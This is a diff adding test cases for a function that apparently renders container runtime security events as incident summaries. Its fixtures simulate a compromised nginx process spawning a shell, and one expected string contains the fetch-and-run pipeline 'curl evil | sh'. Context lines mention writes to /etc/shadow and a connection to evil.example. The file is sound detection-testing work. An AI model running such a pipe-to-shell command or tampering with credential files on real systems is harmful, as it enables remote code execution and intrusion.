@@ -64,6 +64,36 @@ describe('incidentSentence', () => {
       '`nginx` of shop/cart started `/tmp/x` (not in the image); `nginx` wrote `/etc/shadow`',
     ],
     [
+      'what it came for before its tools',
+      shell,
+      [
+        told({ ...below('/bin/sh', '/usr/bin/getent'), kind: 'exec', args: ['getent'] }),
+        told({
+          ...below('/bin/sh', '/usr/bin/getent'),
+          kind: 'connect',
+          transport: 'udp',
+          peer: '10.0.0.2',
+          port: 53,
+        }),
+        told({ ...below('/bin/sh', '/usr/bin/curl'), kind: 'exec', args: ['curl'] }),
+        told({
+          ...below('/bin/sh', '/usr/bin/curl'),
+          kind: 'connect',
+          transport: 'tcp',
+          peer: '203.0.113.7',
+          port: 80,
+        }),
+        told({ ...below('/bin/sh', '/tmp/x'), kind: 'exec', args: ['/tmp/x'], origin: 'upper' }),
+      ],
+      '`nginx` of shop/cart started `/bin/sh -c curl evil | sh`, which started `/tmp/x` (not in the image) and connected to 203.0.113.7:80',
+    ],
+    [
+      'two who came in from outside',
+      told({ root: 'interactive', lineage: ['/bin/sh'], kind: 'exec', args: ['sh'] }),
+      [told({ root: 'interactive', lineage: ['/bin/ls'], kind: 'exec', args: ['ls'] })],
+      'somebody who entered shop/cart started `/bin/sh`; somebody who entered started `/bin/ls`',
+    ],
+    [
       'an act of a known program',
       told({ ...nginx, kind: 'connect', transport: 'tcp', peer: 'evil.example', port: 443 }, 'new-peer', {
         nearest: 'api.example:443',
